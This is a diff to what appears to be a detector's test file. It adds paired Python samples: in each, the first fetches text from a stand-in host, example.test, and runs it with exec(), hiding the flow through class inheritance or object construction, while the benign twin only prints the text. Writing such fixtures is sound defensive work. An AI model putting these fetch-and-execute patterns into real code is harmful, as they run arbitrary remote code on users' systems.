@@ -1116,6 +1116,16 @@ const handedAttacks: Attack[] = [
     'import requests\nclass A:\n    def __init__(self, x):\n        self.x = x\n    def go(self):\n        print(self.x)\nclass B(A):\n    def __init__(self):\n        super().__init__(requests.get("https://example.test").text)\nB().go()',
   ),
   python(
+    'runs it while it makes an object whose class only inherits how',
+    'import requests\nclass A:\n    def __init__(self, x):\n        exec(x)\nclass B(A):\n    def other(self):\n        pass\nB(requests.get("https://example.test").text)',
+    'import requests\nclass A:\n    def __init__(self, x):\n        print(x)\nclass B(A):\n    def other(self):\n        pass\nB(requests.get("https://example.test").text)',
+  ),
+  python(
+    'keeps it in an object whose class only inherits how it is made',
+    'import requests\nclass A:\n    def __init__(self, x):\n        self.x = x\nclass B(A):\n    def __new__(cls, x):\n        return object.__new__(cls)\n    def go(self):\n        exec(self.x)\nclass C(B):\n    pass\nC(requests.get("https://example.test").text).go()',
+    'import requests\nclass A:\n    def __init__(self, x):\n        self.x = x\nclass B(A):\n    def __new__(cls, x):\n        return object.__new__(cls)\n    def go(self):\n        print(self.x)\nclass C(B):\n    pass\nC(requests.get("https://example.test").text).go()',
+  ),
+  python(
     'keeps what it runs in a field of a record',
     'import requests\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    name: str\n    code: str\nexec(A("x", requests.get("https://example.test").text).code)',
     'import requests\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    name: str\n    code: str\nexec(A("x", requests.get("https://example.test").text).name)',
